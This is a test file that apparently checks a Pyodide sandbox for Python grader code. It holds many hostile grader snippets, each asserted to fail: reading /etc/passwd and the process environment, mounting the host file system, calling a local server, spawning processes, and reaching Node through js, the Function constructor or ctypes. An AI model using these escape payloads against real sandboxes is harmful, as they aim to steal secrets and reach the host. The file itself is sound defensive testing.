// The sandbox of Python graders against graders that mean harm: each tries one thing, and must get nothing.
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import pino from 'pino';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { findConfinement } from '../../src/evaluation/sandbox/confinement.ts';
import { startPython } from '../../src/evaluation/sandbox/process.ts';
import { openSandbox, type PythonSandbox } from '../../src/evaluation/sandbox/sandbox.ts';

const MEMORY_BYTES = 192 * 2 ** 20;
const SECONDS = 20;
const SECRET = 'the-secret-of-the-host';
const open = (seconds = SECONDS, allowed: 'on' | 'off' = 'on') =>
  openSandbox({ allowed, seconds, memoryBytes: MEMORY_BYTES, log: pino({ level: 'silent' }) });

let sandbox: PythonSandbox;
let visits = 0;
const server = createServer((_, response) => {
  visits += 1;
  response.end('visited');
});
let port: number;
beforeAll(async () => {
  process.env.ANNEAL_TEST_SECRET = SECRET;
  sandbox = open();
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done));
  port = (server.address() as AddressInfo).port;
});
afterAll(async () => {
  delete process.env.ANNEAL_TEST_SECRET;
  await sandbox.close();
  server.close();
});
afterEach(() => expect(visits, 'requests that came out of the sandbox').toBe(0));

const never = new AbortController().signal;
const grade = (source: string, sample: object = {}, item: object = {}, owner = 'tests') =>
  sandbox.grade(owner, { source, sample, item }, never);

/** The body of `grade`; what it manages to find out comes back as the text of an error. */
async function attempt(body: string): Promise<string> {
  const lines = body
    .trim()
    .split('\n')
    .map(line => `    ${line}`);
  const outcome = await grade(`def grade(sample, item):\n${lines.join('\n')}\n    return 1.0\n`);
  return outcome.type === 'score' ? `score ${outcome.score}` : outcome.message;
}

/** Ways to reach the server above. */
const HOMEWARD: [string, string][] = [
  [
    'a socket',
    'import socket\nsocket.create_connection(("127.0.0.1", PORT), 2).send(b"GET / HTTP/1.0\\r\\n\\r\\n")',
  ],
  ['urllib', 'import urllib.request\nurllib.request.urlopen("http://127.0.0.1:PORT/")'],
  ['pyodide.http', 'import pyodide.http\npyodide.http.open_url("http://127.0.0.1:PORT/")'],
  [
    'asyncio',
    'import asyncio\nasyncio.get_event_loop().run_until_complete(asyncio.open_connection("127.0.0.1", PORT))',
  ],
  [
    'a package',
    'import pyodide_js\npyodide_js.loadPackage("http://127.0.0.1:PORT/x-1.0-py3-none-any.whl")\nimport x',
  ],
  ['micropip', 'import micropip\nmicropip.install("http://127.0.0.1:PORT/x-1.0-py3-none-any.whl")'],
];

describe('an honest grader', () => {
  test('sees sample and item, and has the standard library', async () => {
    const source = `
import re, json, difflib, statistics
def helper(text):
    return len(re.findall("a", text))
def grade(sample, item):
    return helper(sample["output_text"]) / item["of"]
`;
    expect(await grade(source, { output_text: 'banana' }, { of: 4 })).toEqual({ type: 'score', score: 0.75 });
  });

  test.each([
    ['an integer', 'return 1', { type: 'score', score: 1 }],
    ['a truth value', 'return sample == {}', { type: 'score', score: 1 }],
    ['a text', 'return "1"', { type: 'error', message: 'TypeError: grade() must return a float, not str' }],
    ['nothing', 'pass', { type: 'error', message: 'TypeError: grade() must return a float, not NoneType' }],
    ['no number', 'return float("nan")', { type: 'error', message: expect.stringContaining('finite') }],
    ['too much', 'return 10 ** 5000', { type: 'error', message: expect.stringContaining('OverflowError') }],
    ['an exception', '\n    raise KeyError("x")', { type: 'error', message: "line 3: KeyError: 'x'" }],
    [
      'an exit',
      'import sys; sys.exit(3)',
      { type: 'error', message: expect.stringContaining('SystemExit: 3') },
    ],
  ])('that returns %s', async (_, body, expected) => {
    expect(await grade(`def grade(sample, item):\n    ${body}\n`)).toEqual(expected);
  });

  test('that is no Python, or has no grade()', async () => {
    expect(await grade('def grade(:')).toMatchObject({
      type: 'error',
      message: expect.stringContaining('SyntaxError'),
    });
    expect(await grade('x = 1')).toEqual({ type: 'error', message: "KeyError: 'grade'" });
  });
});

describe('a hostile grader', () => {
  test.each([
    ['/etc/passwd', 'raise Exception(open("/etc/passwd").read())'],
    ['the environment of the process', 'raise Exception(open("/proc/self/environ").read())'],
    ['this file', `raise Exception(open(${JSON.stringify(import.meta.filename)}).read())`],
  ])('reads %s', async (_, body) => expect(await attempt(body)).toContain('FileNotFoundError'));

  test('lists the root folder: it sees that of its own file system', async () => {
    const seen = await attempt('import os\nraise Exception(sorted(os.listdir("/")))');
    expect(seen).toContain("['dev', 'home', 'lib', 'proc', 'tmp']");
    expect(readdirSync('/')).toContain('etc');
  });

  test('mounts the file system of the host', async () => {
    const body = `
import pyodide_js, os
fs = pyodide_js.FS
os.makedirs("/host", exist_ok=True)
fs.mount(fs.filesystems.NODEFS, pyodide_js._api.config if False else pyodide_js.FS.filesystems, "/host")
raise Exception(os.listdir("/host"), open("/host/etc/passwd").read())`;
    expect(await attempt(body)).not.toMatch(/root:|'etc'/);
    const typed = `
import pyodide_js, os
from pyodide.ffi import to_js
pyodide_js.mountNodeFS("/host2", "/etc")
raise Exception(os.listdir("/host2"))`;
    expect(await attempt(typed)).not.toContain('passwd');
  });

  test('reads the environment', async () => {
    const seen = await attempt('import os\nraise Exception(dict(os.environ))');
    expect(seen).toContain('web_user');
    expect(seen).not.toContain(SECRET);
    expect(seen).not.toContain('src/evaluation');
  });

  test.each(HOMEWARD)('calls home by %s', async (_, body) => {
    expect(await attempt(body.replaceAll('PORT', String(port)))).not.toMatch(/^score/);
    await sleep(300);
  });

  test.each([
    ['subprocess', 'import subprocess\nraise Exception("got " + subprocess.check_output(["id"]).decode())'],
    [
      'os.system',
      'import os\nraise Exception("got " + str(os.system("touch /tmp/anneal-escaped")) if os.system("true") == 0 else "nothing")',
    ],
    ['os.fork', 'import os\nraise Exception("got " + str(os.fork()))'],
    ['posix_spawn', 'import os\nraise Exception("got " + str(os.posix_spawn("/bin/id", ["id"], {})))'],
    [
      'a thread that goes on',
      'import threading\nthreading.Thread(target=print).start()\nraise Exception("got it")',
    ],
  ])('starts %s', async (_, body) => {
    expect(await attempt(body)).not.toContain('got ');
    expect(readdirSync('/tmp')).not.toContain('anneal-escaped');
  });

  test.each([
    ['js', 'import js\nraise Exception("got " + str(js.process.env))'],
    ['js.fetch', 'import js\njs.fetch("http://127.0.0.1:PORT/")\nraise Exception("got")'],
    ['run_js', 'from pyodide.code import run_js\nraise Exception("got " + str(run_js("process.env")))'],
    [
      'the Function constructor',
      'import pyodide_js\nmake = pyodide_js.constructor.constructor\nraise Exception("got " + str(make("return globalThis")()))',
    ],
    [
      'the constructor of async functions',
      'import pyodide_js\nmake = pyodide_js.loadPackage.constructor\nraise Exception("got " + str(make("return process")()))',
    ],
    [
      'the api object',
      'import pyodide_js\nraise Exception("got " + str(pyodide_js._api.config.env.ANNEAL_TEST_SECRET))',
    ],
    [
      'a module of Node',
      'import pyodide_js\nraise Exception("got " + str(pyodide_js._module.require("fs")))',
    ],
    [
      'importing by Pyodide',
      'import pyodide_js\nraise Exception("got " + str(pyodide_js._api.importWrapper("node:fs")))',
    ],
    [
      'ctypes',
      'import ctypes\nlibrary = ctypes.CDLL(None)\nlibrary.emscripten_run_script(b"globalThis.x = 1")\nraise Exception("got it")',
    ],
  ])('escapes by %s', async (_, body) => {
    expect(await attempt(body.replaceAll('PORT', String(port)))).not.toContain('got');
  });

  test('finds JavaScript objects: none leads to Node', async () => {
    const body = `
import gc, pyodide_js
seen, found = set(), []
def walk(value, path, depth):
    if depth > 3 or value.js_id in seen or len(seen) > 400: return
    seen.add(value.js_id)
    for name in dir(value)[:400]:
        if name in ("process", "require", "getBuiltinModule", "mainModule", "binding", "dlopen", "child_process", "fetch"):
            found.append(path + "." + name)
        try: child = getattr(value, name)
        except BaseException: continue
        if hasattr(child, "js_id"): walk(child, path + "." + name, depth + 1)
for each in [pyodide_js, pyodide_js._api, pyodide_js._module, pyodide_js.FS]: walk(each, "x", 0)
raise Exception("found " + repr([path for path in found if not path.endswith("Module.process")]))`;
    expect(await attempt(body)).toContain('found []');
  });

  test('leaves something for the next one: another owner has another process', async () => {
    const leave =
      'import builtins, sys\ndef grade(sample, item):\n    builtins.left = 1\n    sys.modules["left"] = sys\n    open("/tmp/left", "w").write("x")\n    return 1.0';
    const look =
      'import builtins, os, sys\ndef grade(sample, item):\n    return float(hasattr(builtins, "left") or "left" in sys.modules or os.path.exists("/tmp/left"))';
    expect(await grade(leave, {}, {}, 'one')).toEqual({ type: 'score', score: 1 });
    expect(await grade(look, {}, {}, 'two')).toEqual({ type: 'score', score: 0 });
  });

  test('fills memory: Python is told, and the next answer is as ever', async () => {
    expect(await attempt('x = []\nwhile True: x.append(bytearray(10_000_000))')).toContain('MemoryError');
    expect(await attempt('pass')).toBe('score 1');
  });

  test('prints without end: nobody listens', async () => {
    expect(await attempt('for _ in range(200): print("x" * 100_000)')).toBe('score 1');
  });

  test('writes a large file: it is in its memory only', async () => {
    const body = 'with open("/tmp/large", "wb") as file:\n    while True: file.write(b"x" * 10_000_000)';
    expect(await attempt(body)).toMatch(/MemoryError|OSError|memory/);
  });

  test('raises an error as long as a book', async () => {
    expect((await attempt('raise Exception("x" * 50_000_000)')).length).toBeLessThan(2100);
  });

  test('recurses without end', async () => {
    expect(await attempt('def f(): return f()\nf()')).toMatch(/RecursionError|ended/);
  });

  test('crashes Python', async () => {
    expect(await attempt('import ctypes\nctypes.string_at(2 ** 31)')).not.toMatch(/^score/);
    expect(await attempt('pass')).toBe('score 1');
  });

  test('never ends: it is stopped, and its process is gone', async () => {
    const short = open(1);
    const outcome = await short.grade(
      'x',
      { source: 'def grade(s, i):\n    while True: pass', sample: {}, item: {} },
      never,
    );
    expect(outcome).toEqual({
      type: 'failed',
      reason: 'timeout',
      message: 'the grader took longer than 1 seconds',
    });
    await short.close();
  });
});

test('a process that takes more memory than it may, by whatever means, is killed', async () => {
  const confinement = findConfinement({ memoryBytes: MEMORY_BYTES, cpuSeconds: 60 });
  const python = startPython(confinement, { seconds: 20, memoryBytes: -400 * 2 ** 20 }); // what it starts with is too much
  const outcome = await python.ask(
    { source: 'def grade(s, i):\n    while True: pass', sample: {}, item: {} },
    never,
  );
  expect(outcome).toMatchObject({ type: 'failed', reason: 'memory_limit' });
});

describe('where the kernel gives no namespaces, the other walls keep the network away', () => {
  test.each(HOMEWARD)('%s', async (_, body) => {
    const found = findConfinement({ memoryBytes: MEMORY_BYTES, cpuSeconds: 60 });
    const node = found.args.slice(found.args.indexOf('sh') + 1);
    const bare = { command: 'sh', args: node, networkless: false, wrapped: false };
    const python = startPython(found.wrapped ? bare : found, { seconds: 20, memoryBytes: MEMORY_BYTES });
    const lines = body
      .replaceAll('PORT', String(port))
      .split('\n')
      .map(line => `    ${line}`);
    const source = `def grade(sample, item):\n${lines.join('\n')}\n    return 1.0\n`;
    const outcome = await python.ask({ source, sample: {}, item: {} }, never);
    expect(outcome.type).not.toBe('score');
    await sleep(300);
    await python.kill();
  });
});

test('an abort stops the grader at once', async () => {
  const gone = new AbortController();
  const asked = sandbox.grade(
    'slow',
    { source: 'def grade(s, i):\n    while True: pass', sample: {}, item: {} },
    gone.signal,
  );
  setTimeout(() => gone.abort(new Error('the client is gone')), 200);
  await expect(asked).rejects.toThrow('the client is gone');
});

test('more than may run at once wait for their turn', async () => {
  const source = 'def grade(sample, item):\n    return item["n"]';
  const asked = Array.from({ length: 8 }, (_, n) => grade(source, {}, { n }, `owner ${n % 4}`));
  expect(await Promise.all(asked)).toEqual(asked.map((_, score) => ({ type: 'score', score })));
});

test('without an owner a process is used once', async () => {
  const source =
    'import builtins\ndef grade(sample, item):\n    builtins.n = getattr(builtins, "n", 0) + 1\n    return builtins.n';
  const once = () => sandbox.grade(null, { source, sample: {}, item: {} }, never);
  expect([await once(), await once()]).toEqual([
    { type: 'score', score: 1 },
    { type: 'score', score: 1 },
  ]);
});

test('where they are switched off, the caller is told', async () => {
  const off = open(1, 'off');
  await expect(off.grade('x', { source: '', sample: {}, item: {} }, never)).rejects.toThrow(
    'ANNEAL_PYTHON_GRADERS',
  );
});

test.runIf(process.platform === 'linux')(
  'the process has no environment, no network and nobody else to see',
  async () => {
    const memoryBytes = MEMORY_BYTES + 65_536; // no other test's process has this limit
    const confinement = findConfinement({ memoryBytes, cpuSeconds: 60 });
    const python = startPython(confinement, { seconds: 20, memoryBytes });
    await python.ask({ source: 'def grade(s, i): return 1', sample: {}, item: {} }, never);
    const pid = findNode(memoryBytes);
    expect(readFileSync(`/proc/${pid}/environ`, 'utf8')).toMatch(/^(PWD=\/\0)?$/); // `sh` adds that one
    if (confinement.networkless) {
      const devices = readFileSync(`/proc/${pid}/net/dev`, 'utf8').trim().split('\n').slice(2);
      expect(devices.map(line => line.split(':')[0]!.trim())).toEqual(['lo']);
    }
    await python.kill();
    await expect.poll(() => commandOf(pid), { timeout: 10_000 }).toBe('');
  },
);

/** The process whose arguments end in this limit. */
function findNode(memoryBytes: number): string {
  const found = readdirSync('/proc').filter(
    name =>
      /^\d+$/.test(name) &&
      commandOf(name).includes(`\0${memoryBytes}\0`) &&
      commandOf(name).startsWith(process.execPath),
  );
  return found.at(-1)!;
}

function commandOf(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
  } catch {
    return '';
  }
}
